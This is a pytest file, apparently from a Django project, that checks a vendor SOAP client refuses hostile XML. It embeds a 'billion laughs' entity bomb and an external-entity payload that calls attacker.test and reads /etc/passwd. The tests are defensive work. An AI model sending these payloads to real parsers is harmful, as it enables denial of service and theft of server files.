"""Gladstone's answers are untrusted XML: a DTD, an entity bomb or an external entity is
refused unread (defusedxml), and the run fails with a clear vendor error."""

import pytest

from clients.models import Client
from integrations.gladstone import contract as c
from integrations.gladstone.client import UnsafeXML, parse_xml
from integrations.gladstone.sandbox import GladstoneSandbox
from integrations.models import SyncRun
from integrations.sandbox.base import SandboxResponse, route
from integrations.sandbox.transports import mounted
from integrations.sync import sync_run
from tests.integrations.gladstone.conftest import GLADSTONE_URL

pytestmark = pytest.mark.django_db

# The classic "billion laughs": ten levels of ten, a gigabyte once expanded.
LAUGHS = "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' if n else '<!ENTITY lol0 "lol">' for n in range(10)
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?>'
    f"<!DOCTYPE soap:Envelope [{LAUGHS}]>"
    f'<soap:Envelope xmlns:soap="{c.SOAP_ENV}"><soap:Body>'
    f'<GetMemberChangesResponse xmlns="{c.NAMESPACE}"><GetMemberChangesResult>'
    "<MemberChange><MemberID>&lol9;</MemberID></MemberChange>"
    "</GetMemberChangesResult></GetMemberChangesResponse></soap:Body></soap:Envelope>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>'
    '<!DOCTYPE soap:Envelope [<!ENTITY leak SYSTEM "http://attacker.test/steal">'
    '<!ENTITY passwd SYSTEM "file:///etc/passwd">]>'
    f'<soap:Envelope xmlns:soap="{c.SOAP_ENV}"><soap:Body>'
    f'<GetMemberChangesResponse xmlns="{c.NAMESPACE}"><GetMemberChangesResult>'
    "<MemberChange><MemberID>&leak;&passwd;</MemberID></MemberChange>"
    "</GetMemberChangesResult></GetMemberChangesResponse></soap:Body></soap:Envelope>"
)


class HostileGladstone(GladstoneSandbox):
    """A Gladstone (or someone on the path) answering every SOAP call with `body`."""

    body = ""

    @route("POST", r"(?:.*/)?(?:Login|Members|General|Subscriptions)\.asmx")
    def soap(self, request):
        return SandboxResponse(200, self.body, content_type=c.CONTENT_TYPE)


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
def test_a_hostile_answer_fails_the_run_with_a_clear_vendor_error(integration, body):
    hostile = HostileGladstone(members=0)
    hostile.body = body
    with mounted((hostile, GLADSTONE_URL)) as mock:
        run = sync_run(integration=integration, sync_name="members")
        urls = [call.request.url for call in mock.calls]
    assert urls == [GLADSTONE_URL + "Members.asmx"]  # the entity's address was never fetched
    assert run.status == SyncRun.Status.FAILED
    assert "GetMemberChanges answered XML with a DTD or entities, refused unread" in run.error
    assert "lol" not in run.error and "root:" not in run.error
    assert not Client.objects.exists()


def test_parse_xml_refuses_before_expanding():
    with pytest.raises(UnsafeXML):
        parse_xml(BILLION_LAUGHS.encode())
    with pytest.raises(UnsafeXML):
        parse_xml(EXTERNAL_ENTITY.encode())
    # An internal entity without a DTD cannot be declared: a plain envelope still parses.
    assert parse_xml(f'<soap:Envelope xmlns:soap="{c.SOAP_ENV}"/>'.encode()).tag.endswith("Envelope")
